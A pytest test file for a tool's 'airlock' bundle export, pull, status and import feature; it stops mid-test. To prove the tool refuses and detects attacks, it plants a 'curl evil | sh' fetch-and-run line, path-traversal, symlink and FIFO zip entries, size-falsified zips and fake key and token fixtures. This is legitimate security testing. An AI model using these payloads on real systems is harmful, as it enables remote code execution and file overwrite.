"""The Airlock: export, pull, status and import, against real git repositories, real zip files, a real
child process and a real IPython shell. Remotes are local folders (and the Drive test server for gdown)."""
from __future__ import annotations

import hashlib
import io
import json
import os
import stat
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from colabkit import airlock
from colabkit.cli import main
from colabkit.config import load_config
from colabkit.errors import AirlockError, DirtyTreeError, IntegrityError, SecretInBundleError, UnsafeBundleError

from .drive_server import DriveServer, drive_server  # noqa: F401  (fixture)

TRAIN = "import torch\nprint('step 1 loss 0.5')\n"


def git(cwd: Path, *args: str) -> str:
    return subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, text=True).stdout


def make_project(root: Path, remote: Path, *, extra_yaml: str = "") -> Path:
    """A git repo with experiments/v01 committed and a colabkit.yaml whose airlock remote is `remote`."""
    root.mkdir(parents=True)
    git(root, "init", "-q", "-b", "main")
    git(root, "config", "user.email", "t@example.com")
    git(root, "config", "user.name", "Test")
    git(root, "config", "commit.gpgsign", "false")
    e = root / "experiments" / "v01"
    (e / "models").mkdir(parents=True)
    (e / "train.py").write_text(TRAIN)
    (e / "models" / "__init__.py").write_text("")
    (e / "models" / "net.py").write_text("class Net:\n    pass\n")
    (e / "requirements.txt").write_text("")
    (root / ".gitignore").write_text("logs/\ncheckpoints/\n.colabkit/\n")
    (root / "colabkit.yaml").write_text(
        f"tiers:\n  - name: drive\n    remote: drive\n    path: {remote}\n" + extra_yaml)
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "v01")
    return root


@pytest.fixture
def project(tmp_path: Path) -> Path:
    return make_project(tmp_path / "proj", tmp_path / "remote")


def cfg_of(root: Path):
    return load_config(root / "colabkit.yaml")


def run_cli(argv: list[str], capsys) -> tuple[int, str, str]:
    rc = main(argv)
    out, err = capsys.readouterr()
    return rc, out, err


# -- export ---------------------------------------------------------------------------------------------
def test_export_bundles_committed_code_with_a_manifest(project: Path):
    e = project / "experiments" / "v01"
    for p in ("logs/train.log", "checkpoints/v01_step_00000010.pt", "data/shard0.bin", "models/w.pt",
              "models/__pycache__/net.cpython-311.pyc", "notes/scratch.md"):
        (e / p).parent.mkdir(parents=True, exist_ok=True)
        (e / p).write_text("x")
    git(project, "add", "-f", "experiments/v01/data/shard0.bin", "experiments/v01/models/w.pt",
        "experiments/v01/notes/scratch.md")
    git(project, "commit", "-q", "-m", "more")
    (project / "colabkit.yaml").write_text((project / "colabkit.yaml").read_text()
                                           + "airlock:\n  exclude: ['notes/']\n")
    git(project, "commit", "-q", "-am", "exclude notes")
    res = airlock.export("v01", config=cfg_of(project))
    zpath = Path(cfg_of(project).tier("drive").path) / res["remote_path"]
    assert res["remote_path"] == f"airlock/v01/{res['bundle']}.zip" and zpath.is_file()
    assert res["uploaded"] and res["bytes_uploaded"] > 0
    with zipfile.ZipFile(zpath) as zf:
        names = zf.namelist()
        manifest = json.loads(zf.read("MANIFEST.json"))
        assert names == ["MANIFEST.json", "experiments/v01/models/__init__.py", "experiments/v01/models/net.py",
                         "experiments/v01/requirements.txt", "experiments/v01/train.py"]
        assert zf.read("experiments/v01/train.py").decode() == TRAIN
    head = git(project, "rev-parse", "HEAD").strip()
    assert manifest["format"] == 1 and manifest["experiment"] == "v01"
    assert manifest["git"] == {"commit": git(project, "log", "-1", "--format=%H", "--", "experiments/v01").strip(),
                               "branch": "main", "dirty": False, "diff_sha256": None}
    assert head  # the export time and HEAD live in latest.json, outside the bundle
    ctime = int(git(project, "log", "-1", "--format=%ct", "--", "experiments/v01"))
    from datetime import datetime, timezone
    assert manifest["created"] == datetime.fromtimestamp(ctime, timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")
    assert manifest["python"] == ".".join(map(str, sys.version_info[:3]))
    import colabkit
    assert manifest["colabkit"] == colabkit.__version__
    train = next(f for f in manifest["files"] if f["path"] == "experiments/v01/train.py")
    assert train == {"path": "experiments/v01/train.py", "size": len(TRAIN),
                     "sha256": hashlib.sha256(TRAIN.encode()).hexdigest()}
    pairs = "".join(f"{f['path']}\0{f['sha256']}\n" for f in sorted(manifest["files"], key=lambda f: f["path"]))
    assert manifest["content_sha256"] == hashlib.sha256(pairs.encode()).hexdigest() == res["bundle"]
    latest = json.loads((zpath.parent / "latest.json").read_text())
    assert latest["bundle"] == res["bundle"] and latest["head"] == head
    assert latest["bundle_sha256"] == hashlib.sha256(zpath.read_bytes()).hexdigest()


def test_same_content_gives_the_same_bytes_whatever_the_mtimes(tmp_path: Path):
    a = make_project(tmp_path / "a", tmp_path / "remote-a")
    b = tmp_path / "b"
    subprocess.run(["git", "clone", "-q", str(a), str(b)], check=True)
    (b / "colabkit.yaml").write_text(f"tiers:\n  - name: drive\n    remote: drive\n    path: {tmp_path / 'remote-b'}\n")
    git(b, "update-index", "--assume-unchanged", "colabkit.yaml")
    for i, f in enumerate(sorted((b / "experiments").rglob("*"))):
        os.utime(f, (1_000_000 + i * 7777, 1_000_000 + i * 7777))
    ra = airlock.export("v01", config=cfg_of(a))
    rb = airlock.export("v01", config=cfg_of(b))
    za = (tmp_path / "remote-a" / ra["remote_path"]).read_bytes()
    zb = (tmp_path / "remote-b" / rb["remote_path"]).read_bytes()
    assert ra["bundle"] == rb["bundle"]
    assert za == zb
    with zipfile.ZipFile(io.BytesIO(za)) as zf:
        for zi in zf.infolist():
            assert zi.date_time == (1980, 1, 1, 0, 0, 0)
            assert stat.S_IMODE(zi.external_attr >> 16) == 0o644


def test_unchanged_re_export_uploads_nothing_and_says_so(project: Path, capsys, monkeypatch):
    monkeypatch.chdir(project)
    rc, out, _ = run_cli(["airlock", "export", "v01"], capsys)
    assert rc == 0 and "uploaded to drive:airlock/v01/" in out
    remote = Path(cfg_of(project).tier("drive").path) / "airlock" / "v01"
    before = {p.name: p.stat().st_mtime_ns for p in remote.iterdir()}
    rc, out, _ = run_cli(["airlock", "export", "v01", "--json"], capsys)
    res = json.loads(out)
    assert rc == 0 and res["bytes_uploaded"] == 0 and res["uploaded"] is False
    rc, out, _ = run_cli(["airlock", "export", "v01"], capsys)
    assert rc == 0
    assert out.splitlines()[-1] == (f"  unchanged since the last export: nothing uploaded "
                                    f"(drive:airlock/v01/{res['bundle']}.zip)")
    assert {p.name: p.stat().st_mtime_ns for p in remote.iterdir()} == before


def test_dirty_tree_is_refused_with_the_files_listed(project: Path):
    e = project / "experiments" / "v01"
    (e / "train.py").write_text(TRAIN + "# edited\n")
    (e / "models" / "new.py").write_text("y = 2\n")
    (e / "logs").mkdir()
    (e / "logs" / "run.log").write_text("ignored, never bundled\n")
    with pytest.raises(DirtyTreeError) as ei:
        airlock.export("v01", config=cfg_of(project))
    assert str(ei.value) == (
        "experiments/v01 has uncommitted or untracked files; commit them (or add them to .gitignore or "
        "airlock.exclude), or export with --allow-dirty:\n"
        "  modified: experiments/v01/train.py\n"
        "  untracked: experiments/v01/models/new.py")
    assert not (Path(cfg_of(project).tier("drive").path) / "airlock").exists()
    assert (e / "train.py").read_text() == TRAIN + "# edited\n"  # nothing touched


def test_allow_dirty_records_the_diff_hash_and_says_so_loudly(project: Path, capsys, monkeypatch):
    monkeypatch.chdir(project)
    e = project / "experiments" / "v01"
    (e / "train.py").write_text(TRAIN + "# edited\n")
    (e / "models" / "new.py").write_text("y = 2\n")
    rc, out, err = run_cli(["airlock", "export", "v01", "--allow-dirty"], capsys)
    assert rc == 0
    rec = airlock.read_record(project, "v01")
    m = rec["manifest"]
    assert m["git"]["dirty"] is True and len(m["git"]["diff_sha256"]) == 64
    assert "experiments/v01/models/new.py" in [f["path"] for f in m["files"]]
    warning = next(x for x in err.splitlines() if x.startswith("WARNING: "))
    assert warning.startswith("WARNING: v01 was exported WITH UNCOMMITTED CHANGES (--allow-dirty); the manifest records "
                          f"dirty=true and diff sha256 {m['git']['diff_sha256'][:16]}…")


SECRET_KEY = "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE KEY-----\n"
HF = "hf_" + "AbCdEfGhIjKlMnOpQrStUvWxYz01234567"


def test_secrets_never_travel_and_are_named_without_their_value(project: Path, capsys, monkeypatch):
    e = project / "experiments" / "v01"
    (e / ".secrets").mkdir()
    (e / ".secrets" / "notes.txt").write_text("nothing secret-looking\n")
    (e / ".env").write_text("WANDB_KEY=abc\n")
    (e / "models" / "key.pem").write_text(SECRET_KEY)
    (e / "sa.json").write_text(json.dumps({"type": "service_account", "private_key": "MIIEsecretvalue"}))
    (e / "models" / "cfg.py").write_text(f"TOKEN = '{HF}'\n")
    git(project, "add", "-A")
    git(project, "commit", "-q", "-m", "oops")
    monkeypatch.chdir(project)
    rc, out, err = run_cli(["airlock", "export", "v01"], capsys)
    assert rc == 1
    assert err == (
        "Error: refusing to export v01: 5 file(s) are or hold secrets, and secrets never travel; remove them from "
        "the experiment (or, for a false positive, add them to airlock.exclude):\n"
        "  .env (is a .env file)\n"
        "  .secrets/notes.txt (is under .secrets/)\n"
        "  models/cfg.py (holds a Hugging Face token)\n"
        "  models/key.pem (holds a private-key block)\n"
        "  sa.json (holds a service-account private_key)\n")
    for secret in (HF, "MIIEsecretvalue", "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC", "WANDB_KEY=abc"):
        assert secret not in out + err
    assert not (Path(cfg_of(project).tier("drive").path) / "airlock").exists()
    # no override flag: excludes are the way out
    with pytest.raises(SecretInBundleError):
        airlock.export("v01", config=cfg_of(project), allow_dirty=True)
    (project / "colabkit.yaml").write_text((project / "colabkit.yaml").read_text() + "airlock:\n  exclude: "
                                           "['.env', '.secrets/', 'models/key.pem', 'sa.json', 'models/cfg.py']\n")
    git(project, "commit", "-q", "-am", "exclude")
    res = airlock.export("v01", config=cfg_of(project))
    assert res["files"] == 4  # train.py, requirements.txt, models/{__init__,net}.py, and nothing secret
    assert all("cfg.py" not in f["path"] for f in airlock.read_record(project, "v01")["manifest"]["files"])


def test_unknown_experiment(project: Path, capsys, monkeypatch):
    monkeypatch.chdir(project)
    rc, _, err = run_cli(["airlock", "export", "v09"], capsys)
    assert rc == 1
    assert err == (f"Error: unknown experiment 'v09': {project / 'experiments' / 'v09'} does not exist "
                   "(experiments here: v01); create it with 'colabkit init --experiment v09' or pull it with "
                   "'colabkit airlock pull v09'\n")
    rc, _, err = run_cli(["airlock", "pull", "v09"], capsys)
    assert rc == 1
    assert err == (f"Error: no bundle of 'v09' on local folder {project.parent / 'remote'} (airlock/v09/latest.json "
                   "is missing); run 'colabkit airlock export v09' where the code is\n")
    rc, _, err = run_cli(["airlock", "export", "../etc"], capsys)
    assert rc == 1 and err == ("Error: '../etc' is not an experiment name; use the folder name under experiments/, "
                               "e.g. v01\n")


def test_malformed_colabkit_yaml(project: Path, capsys, monkeypatch):
    monkeypatch.chdir(project)
    (project / "colabkit.yaml").write_text("tiers: [\n  name: drive\n")
    rc, _, err = run_cli(["airlock", "export", "v01"], capsys)
    assert rc == 1
    assert err.startswith(f"Error: {project / 'colabkit.yaml'}: line ")
    assert "not valid YAML" in err and err.rstrip().endswith("fix the syntax there")
    (project / "colabkit.yaml").write_text("airlock:\n  max_unpacked: lots\n")
    rc, _, err = run_cli(["airlock", "status", "v01"], capsys)
    assert rc == 1
    assert err == "Error: airlock.max_unpacked: 'lots' is not a size; use e.g. 500MB or 20GB\n"


def test_export_outside_git_is_refused(tmp_path: Path):
    root = tmp_path / "nogit"
    (root / "experiments" / "v01").mkdir(parents=True)
    (root / "experiments" / "v01" / "train.py").write_text(TRAIN)
    cfg = load_config(data={"tiers": [{"name": "drive", "remote": "local", "path": str(tmp_path / "r")}]},
                      start=root)
    with pytest.raises(DirtyTreeError) as ei:
        airlock.export("v01", config=cfg)
    assert str(ei.value) == (f"{root / 'experiments' / 'v01'} is not in a git repository, so its commit state is "
                             "unknown; commit it to git (git init && git add && git commit), or export with "
                             "--allow-dirty")
    assert airlock.export("v01", config=cfg, allow_dirty=True)["dirty"] is True


# -- pull and status --------------------------------------------------------------------------------------------
def test_export_pull_status_roundtrip_cli_and_subprocess(project: Path, tmp_path: Path, capsys, monkeypatch):
    monkeypatch.chdir(project)
    assert run_cli(["airlock", "export", "v01"], capsys)[0] == 0
    rc, out, _ = run_cli(["airlock", "status", "v01"], capsys)
    assert rc == 0 and out.endswith(": in sync\n")
    dst = tmp_path / "cluster"
    rc, out, _ = run_cli(["airlock", "pull", "v01", "--to", str(dst)], capsys)
    bundle = airlock.read_record(project, "v01")["bundle"]
    assert rc == 0
    assert out.splitlines()[0] == (f"Pulled bundle {bundle[:12]} of v01 into {dst}: 4 files verified (4 written, "
                                   "0 unchanged)")
    assert (dst / "experiments" / "v01" / "train.py").read_text() == TRAIN
    rec = json.loads((dst / ".colabkit" / "airlock" / "v01.json").read_text())
    assert rec["bundle"] == bundle and rec["action"] == "pull"
    monkeypatch.chdir(dst)
    rc, out, _ = run_cli(["airlock", "status", "v01"], capsys)
    assert rc == 0 and out == f"v01: bundle {bundle[:12]} (pulled {rec['at']}): in sync\n"
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[1])}
    p = subprocess.run([sys.executable, "-m", "colabkit", "airlock", "status", "v01"], cwd=dst, env=env,
                       capture_output=True, text=True, timeout=120)
    assert p.returncode == 0, p.stderr
    (dst / "experiments" / "v01" / "train.py").write_text(TRAIN + "lr = 0.1\n")
    (dst / "experiments" / "v01" / "models" / "net.py").unlink()
    (dst / "experiments" / "v01" / "extra.py").write_text("z = 3\n")
    (dst / "experiments" / "v01" / "logs").mkdir()
    (dst / "experiments" / "v01" / "logs" / "train.log").write_text("never drift\n")
    rc, out, _ = run_cli(["airlock", "status", "v01"], capsys)
    assert rc == 3
    assert out == (f"v01: bundle {bundle[:12]} (pulled {rec['at']}): DRIFTED\n"
                   "  + experiments/v01/extra.py (added)\n"
                   "  - experiments/v01/models/net.py (removed)\n"
                   "  ~ experiments/v01/train.py (changed)\n")
    p = subprocess.run([sys.executable, "-m", "colabkit", "airlock", "status", "v01", "--json"], cwd=dst, env=env,
                       capture_output=True, text=True, timeout=120)
    assert p.returncode == 3, p.stderr
    data = json.loads(p.stdout)
    assert data["in_sync"] is False and data["experiments"][0]["changed"] == ["experiments/v01/train.py"]


def test_status_at_home_sees_new_untracked_files_and_no_record(project: Path, capsys, monkeypatch):
    monkeypatch.chdir(project)
    rc, _, err = run_cli(["airlock", "status", "v01"], capsys)
    assert rc == 1 and err == (f"Error: no bundle of 'v01' was exported or pulled in {project}; run 'colabkit "
                               "airlock export v01' (or pull it) first\n")
    airlock.export("v01", config=cfg_of(project))
    (project / "experiments" / "v01" / "models" / "attn.py").write_text("a = 1\n")
    rc, out, _ = run_cli(["airlock", "status"], capsys)
    assert rc == 3 and out.splitlines()[1:] == ["  + experiments/v01/models/attn.py (added)"]


def test_pull_specific_bundle_by_hash_prefix_and_keeps_local_edits(project: Path, tmp_path: Path):
    cfg = cfg_of(project)
    first = airlock.export("v01", config=cfg)["bundle"]
    (project / "experiments" / "v01" / "train.py").write_text(TRAIN + "# v2\n")
    (project / "experiments" / "v01" / "models" / "net.py").unlink()
    git(project, "commit", "-q", "-am", "v2")
    second = airlock.export("v01", config=cfg)["bundle"]
    dst = tmp_path / "cluster"
    res = airlock.pull("v01", config=cfg, bundle=first[:8], to=dst)
    assert res["bundle"] == first and (dst / "experiments/v01/models/net.py").exists()
    # pulling latest replaces unchanged files and removes the ones the new bundle dropped
    res = airlock.pull("v01", config=cfg, to=dst)
    assert res["bundle"] == second and res["removed"] == ["experiments/v01/models/net.py"]
    assert (dst / "experiments/v01/train.py").read_text() == TRAIN + "# v2\n"
    # a local edit on the cluster is never silently overwritten
    (dst / "experiments/v01/train.py").write_text("my local fix\n")
    with pytest.raises(AirlockError) as ei:
        airlock.pull("v01", config=cfg, bundle=first, to=dst)
    assert str(ei.value) == (f"1 file(s) under {dst} have local changes that pulling bundle {first[:12]} of v01 "
                             "would overwrite: experiments/v01/train.py; commit or move them, or pull with --force")
    assert (dst / "experiments/v01/train.py").read_text() == "my local fix\n"
    airlock.pull("v01", config=cfg, bundle=first, to=dst, force=True)
    assert (dst / "experiments/v01/train.py").read_text() == TRAIN
    with pytest.raises(AirlockError) as ei:
        airlock.pull("v01", config=cfg, bundle="ffff0000", to=dst)
    shown = ", ".join(sorted([first[:12], second[:12]]))
    assert str(ei.value) == f"no bundle 'ffff0000' of 'v01' on local folder {tmp_path / 'remote'}; available: {shown}"
    with pytest.raises(AirlockError) as ei:
        airlock.pull("v01", config=cfg, bundle="../x", to=dst)
    assert str(ei.value) == ("--bundle '../x' is not a bundle hash; pass 'latest' or at least 4 hex digits of a "
                             "hash that 'colabkit airlock export' printed")


def _put_crafted(project: Path, files: dict[str, bytes], build, *, format: int = 1) -> tuple[str, Path]:
    """A hand-made bundle whose manifest lists `files`, stored on the remote under its content hash."""
    entries = [{"path": p, "sha256": hashlib.sha256(b).hexdigest(), "size": len(b)} for p, b in sorted(files.items())]
    pairs = "".join(f"{e['path']}\0{e['sha256']}\n" for e in entries)
    name = hashlib.sha256(pairs.encode()).hexdigest()
    manifest = json.dumps({"format": format, "experiment": "v01", "prefix": "experiments/v01", "files": entries,
                           "content_sha256": name}).encode()
    d = Path(cfg_of(project).tier("drive").path) / "airlock" / "v01"
    d.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(d / f"{name}.zip", "w") as zf:
        zf.writestr("MANIFEST.json", manifest)
        build(zf)
    return name, d / f"{name}.zip"


@pytest.mark.parametrize("entry, why", [
    ("../escape.py", "a '..' component"),
    ("experiments/v01/../../../escape.py", "a '..' component"),
    ("/tmp/abs.py", "an absolute path"),
    ("link", "a symbolic link"),
    ("fifo", "a device, pipe or socket"),
])
def test_unsafe_bundles_are_refused_and_nothing_is_unpacked(project: Path, tmp_path: Path, entry: str, why: str):
    def build(zf: zipfile.ZipFile) -> None:
        zf.writestr("experiments/v01/train.py", b"ok\n")
        if entry == "link":
            zi = zipfile.ZipInfo("experiments/v01/link")
            zi.create_system = 3
            zi.external_attr = (stat.S_IFLNK | 0o777) << 16
            zf.writestr(zi, "/etc/passwd")
        elif entry == "fifo":
            zi = zipfile.ZipInfo("experiments/v01/fifo")
            zi.create_system = 3
            zi.external_attr = (stat.S_IFIFO | 0o644) << 16
            zf.writestr(zi, "")
        else:
            zf.writestr(entry, b"evil\n")
    name, _ = _put_crafted(project, {"experiments/v01/train.py": b"ok\n"}, build)
    dst = tmp_path / "cluster"
    with pytest.raises(UnsafeBundleError) as ei:
        airlock.pull("v01", config=cfg_of(project), bundle=name[:8], to=dst)
    shown = {"link": "experiments/v01/link", "fifo": "experiments/v01/fifo"}.get(entry, entry)
    assert str(ei.value) == (f"bundle {name[:12]} of v01 is unsafe and was not unpacked: {shown!r} ({why}). Do not "
                             "use this bundle; export it again from a clean checkout")
    assert not (dst / "experiments").exists() and not (tmp_path / "escape.py").exists()
    assert not (dst / ".colabkit" / "airlock" / "v01.json").exists()


def test_a_newer_manifest_format_says_how_to_upgrade_without_the_unrelated_pypi_name(project: Path, tmp_path: Path):
    name, _ = _put_crafted(project, {"experiments/v01/train.py": b"ok\n"},
                           lambda zf: zf.writestr("experiments/v01/train.py", b"ok\n"), format=99)
    with pytest.raises(AirlockError) as ei:
        airlock.pull("v01", config=cfg_of(project), bundle=name[:8], to=tmp_path / "cluster")
    assert str(ei.value).endswith(
        "has manifest format 99, newer than this colabkit understands (1); upgrade colabkit where you installed it "
        "from (pip install -U -e . in your checkout, or pip install -U with its git URL; the name 'colabkit' on PyPI "
        "is another project)")
    assert "pip install -U colabkit" not in str(ei.value)


def test_bundle_over_the_size_cap_is_refused(project: Path, tmp_path: Path):
    airlock.export("v01", config=cfg_of(project))
    (project / "colabkit.yaml").write_text((project / "colabkit.yaml").read_text() + "airlock:\n  max_unpacked: 40\n")
    dst = tmp_path / "cluster"
    with pytest.raises(UnsafeBundleError) as ei:
        airlock.pull("v01", config=cfg_of(project), to=dst)
    b = airlock.read_record(project, "v01")["bundle"][:12]
    m = airlock.read_record(project, "v01")["manifest"]
    total = m["total_size"] + len(json.dumps(m, indent=2, sort_keys=True)) + 1
    from colabkit.config import format_size
    assert str(ei.value) == (f"bundle {b} of v01 would unpack to {format_size(total)} ({total} bytes), over the "
                             "cap of 40 B "
                             "(airlock.max_unpacked); nothing was unpacked. Raise airlock.max_unpacked in "
                             "colabkit.yaml if this bundle is expected")
    assert not (dst / "experiments").exists()


def test_a_zip_that_lies_about_its_sizes_is_stopped_at_the_cap(project: Path, tmp_path: Path):
    big = b"0" * 5000

    def build(zf: zipfile.ZipFile) -> None:
        zf.writestr(zipfile.ZipInfo("experiments/v01/big.txt"), big, compress_type=zipfile.ZIP_DEFLATED)
    name, zp = _put_crafted(project, {"experiments/v01/big.txt": big}, build)
    data = bytearray(zp.read_bytes())
    # rewrite the declared uncompressed size (local header and central directory) to 10 bytes
    for sig, off in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        i = data.find(sig, data.find(b"experiments/v01/big.txt") - 60 if sig == b"PK\x03\x04" else 0)
        while i != -1:
            fname_len = int.from_bytes(data[i + (26 if sig == b"PK\x03\x04" else 28):][:2], "little")
            fname = data[i + (30 if sig == b"PK\x03\x04" else 46):][:fname_len]
            if fname == b"experiments/v01/big.txt":
                data[i + off:i + off + 4] = (10).to_bytes(4, "little")
            i = data.find(sig, i + 4)
    zp.write_bytes(bytes(data))
    (project / "colabkit.yaml").write_text((project / "colabkit.yaml").read_text() + "airlock:\n  max_unpacked: 2000\n")
    dst = tmp_path / "cluster"
    with pytest.raises(IntegrityError) as ei:
        airlock.pull("v01", config=cfg_of(project), bundle=name[:8], to=dst)
    assert str(ei.value) == (f"bundle {name[:12]} of v01: experiments/v01/big.txt cannot be read from the zip (Bad "
                             "CRC-32 for file 'experiments/v01/big.txt'); nothing was unpacked. The bundle is "
                             "damaged: export it again")
    assert not (dst / "experiments").exists()


def test_tampered_file_is_detected_and_nothing_is_unpacked(project: Path, tmp_path: Path):
    cfg = cfg_of(project)
    res = airlock.export("v01", config=cfg)
    zp = tmp_path / "remote" / res["remote_path"]
    with zipfile.ZipFile(zp) as zf:
        members = {n: zf.read(n) for n in zf.namelist()}
    members["experiments/v01/train.py"] = b"import os; os.system('curl evil | sh')\n"
    with zipfile.ZipFile(zp, "w") as zf:
        for n, b in members.items():
            zf.writestr(n, b)
    dst = tmp_path / "cluster"
    with pytest.raises(IntegrityError) as ei:  # the zip no longer matches latest.json
        airlock.pull("v01", config=cfg, to=dst)
    assert str(ei.value).startswith(f"bundle {res['short']} of v01: the zip's sha256 (")
    assert str(ei.value).endswith("is not the one recorded at export "
                                  f"({res['bundle_sha256'][:16]}…); the bundle was altered, export it again")
    (zp.parent / "latest.json").unlink()  # without latest.json, every file is still checked
    with pytest.raises(IntegrityError) as ei:
        airlock.pull("v01", config=cfg, bundle=res["bundle"], to=dst)
    good = hashlib.sha256(TRAIN.encode()).hexdigest()
    bad = hashlib.sha256(members["experiments/v01/train.py"]).hexdigest()
    assert str(ei.value) == (f"bundle {res['short']} of v01: experiments/v01/train.py does not match the manifest "
                             f"(sha256 {bad[:16]}… vs {good[:16]}…, {len(members['experiments/v01/train.py'])} vs "
                             f"{len(TRAIN)} bytes); nothing was unpacked. The bundle was altered: export it again")
    assert not (dst / "experiments").exists()


def test_pull_install_runs_pip_in_a_child_process(project: Path, tmp_path: Path, monkeypatch):
    cfg = cfg_of(project)
    airlock.export("v01", config=cfg)
    res = airlock.pull("v01", config=cfg, to=tmp_path / "c1", install=True)
    assert res["install"]["returncode"] == 0
    assert res["install"]["requirements"] == str(tmp_path / "c1" / "experiments/v01/requirements.txt")
    (project / "experiments/v01/requirements.txt").write_text("colabkit-no-such-package-xyz==0.0.1\n")
    git(project, "commit", "-q", "-am", "req")
    airlock.export("v01", config=cfg)
    monkeypatch.setenv("PIP_NO_INDEX", "1")  # no network: pip must fail on its own, fast
    with pytest.raises(AirlockError) as ei:
        airlock.pull("v01", config=cfg, to=tmp_path / "c2", install=True)
    msg = str(ei.value)
    assert msg.startswith(f"pip install -r {tmp_path / 'c2' / 'experiments/v01/requirements.txt'} failed (exit 1):\n")
    assert "colabkit-no-such-package-xyz" in msg
    assert msg.endswith("\nfix requirements.txt, export again, and pull with --install")
    assert (tmp_path / "c2" / "experiments/v01/train.py").read_text() == TRAIN  # the pull itself stands


# -- import and the journal entry --------------------------------------------------------------------------------
def test_import_from_remote_keeps_both_and_writes_the_journal(project: Path, capsys, monkeypatch):
    cfg = cfg_of(project)
    bundle = airlock.export("v01", config=cfg)["bundle"]
    remote = Path(cfg.tier("drive").path)
    logs = remote / "experiments" / "v01" / "logs"
    logs.mkdir(parents=True)
    (logs / "train.log").write_text("step 100 loss 2.50\nstep 200 loss 1.25\niter 300 | loss: 1.5e0\n")
    (logs / "run.json").write_text(json.dumps({"host": "colab-a100", "gpu": "NVIDIA A100-SXM4-80GB",
                                               "attempts": 2, "bundle": bundle}))
    ck = remote / "experiments" / "v01" / "checkpoints"
    ck.mkdir(parents=True)
    for s in (100, 300):
        (ck / f"v01_step_{s:08d}.pt").write_bytes(b"w")
    local_logs = project / "experiments" / "v01" / "logs"
    local_logs.mkdir()
    (local_logs / "train.log").write_text("a different local log\n")
    monkeypatch.chdir(project)
    rc, out, _ = run_cli(["airlock", "import", "v01"], capsys)
    assert rc == 0, out
    assert (local_logs / "train.log").read_text() == "a different local log\n"
    sha = hashlib.sha256((logs / "train.log").read_bytes()).hexdigest()
    kept = local_logs / f"train.imported-{sha[:8]}.log"
    assert kept.read_text() == (logs / "train.log").read_text()
    assert (local_logs / "run.json").is_file()
    assert f"  kept both: train.log -> {kept}" in out.splitlines()
    journal = (project / "journal.md").read_text()
    entry = journal.split("\n## ")[-1].splitlines()
    assert entry[0].startswith("Run v01 — 2026-") or entry[0].startswith("Run v01 — ")
    assert entry[1:8] == [
        "- **Experiment**: v01",
        f"- **Bundle**: {bundle[:12]}",
        "- **Ran on**: colab-a100 (NVIDIA A100-SXM4-80GB)",
        "- **Steps reached**: 300",
        "- **Loss**: last 1.5, best 1.25",
        "- **Attempts**: 2",
        "- **Final checkpoint**: local: —; drive: experiments/v01/checkpoints/v01_step_00000300.pt",
    ]
    assert entry[8:] == [f"- **Logs** (imported from drive (local folder {remote})):",
                         "  - experiments/v01/logs/run.json",
                         f"  - experiments/v01/logs/train.imported-{sha[:8]}.log"]
    # importing again changes nothing and keeps one copy
    rc, out, _ = run_cli(["airlock", "import", "v01", "--no-journal"], capsys)
    assert rc == 0 and "  unchanged: train.log" in out.splitlines()
    assert sorted(p.name for p in local_logs.iterdir()) == ["run.json", f"train.imported-{sha[:8]}.log", "train.log"]


def test_import_without_logs_or_run_json(project: Path, tmp_path: Path):
    cfg = cfg_of(project)
    with pytest.raises(AirlockError) as ei:
        airlock.import_logs("v01", config=cfg)
    assert str(ei.value) == (f"no logs of 'v01' on local folder {tmp_path / 'remote'} under experiments/v01/logs/; "
                             "has the run synced its logs there (on the cluster: '%sync start' in the notebook, "
                             "'colabkit sync watch' in a terminal)? Or use --gdown ID_OR_URL")
    logs = tmp_path / "remote" / "experiments" / "v01" / "logs"
    logs.mkdir(parents=True)
    (logs / "out.txt").write_text("nothing numeric here\n")
    res = airlock.import_logs("v01", config=cfg)
    assert res["summary"]["steps"] is None and res["summary"]["host"] is None
    assert "- **Ran on**: unknown (no run.json in the logs)" in res["entry"]
    assert "- **Loss**: not in the logs" in res["entry"]
    with pytest.raises(AirlockError) as ei:
        airlock.import_logs("v01", config=cfg, from_="drive", gdown="x")
    assert str(ei.value) == "pass either --from REMOTE or --gdown ID_OR_URL, not both"


def test_import_through_gdown_from_the_drive_test_server(project: Path, drive_server: DriveServer, monkeypatch,
                                                         capsys):
    log_text = b"step 10 loss 3.0\nstep 20 loss 2.0\n"
    fid = drive_server.add_public_file("train_external.log", log_text)
    monkeypatch.setenv("COLABKIT_DRIVE_ENDPOINT", drive_server.endpoint)
    monkeypatch.chdir(project)
    rc, out, err = run_cli(["airlock", "import", "v01", "--gdown", fid], capsys)
    assert rc == 0, err
    assert (project / "experiments/v01/logs/train_external.log").read_bytes() == log_text
    assert "  imported: train_external.log" in out.splitlines()
    assert "- **Steps reached**: 20" in (project / "journal.md").read_text()
    private = drive_server.add_public_file("private.log", b"x", public=False)
    rc, _, err = run_cli(["airlock", "import", "v01", "--gdown", private], capsys)
    assert rc == 1 and err.splitlines()[-1].startswith(f"Error: gdown: the link '{private}' needs sign-in")


# -- magics --------------------------------------------------------------------------------------------
@pytest.mark.magic
def test_airlock_magics_in_a_real_shell(ip, project: Path, tmp_path: Path, capsys, monkeypatch):
    from IPython.core.error import UsageError
    monkeypatch.chdir(project)
    ip.run_line_magic("airlock", "export v01")
    out = capsys.readouterr().out
    assert out.startswith("Bundle ") and "uploaded to drive:airlock/v01/" in out
    ip.run_line_magic("airlock", "status v01")
    assert capsys.readouterr().out.endswith(": in sync\n")
    (project / "experiments/v01/train.py").write_text("changed\n")
    ip.run_line_magic("airlock", "status v01")
    out = capsys.readouterr().out
    assert "  ~ experiments/v01/train.py (changed)\n" in out and out.endswith("(exit status 3)\n")
    with pytest.raises(UsageError) as ei:
        ip.run_line_magic("airlock", "export v01")
    assert str(ei.value).startswith("experiments/v01 has uncommitted or untracked files;")
    with pytest.raises(UsageError) as ei:
        ip.run_line_magic("airlock", "pull v01 --bundle")
    assert str(ei.value) == "%airlock pull: argument --bundle: expected one argument"


# -- the real Drive client against the Drive test server -------------------------------------------------
def test_export_pull_and_import_through_drive(project: Path, tmp_path: Path, drive_server: DriveServer):
    folder = drive_server.create_folder("colabkit", share_with={drive_server.SA_EMAIL: "writer"}, shared_drive=True)
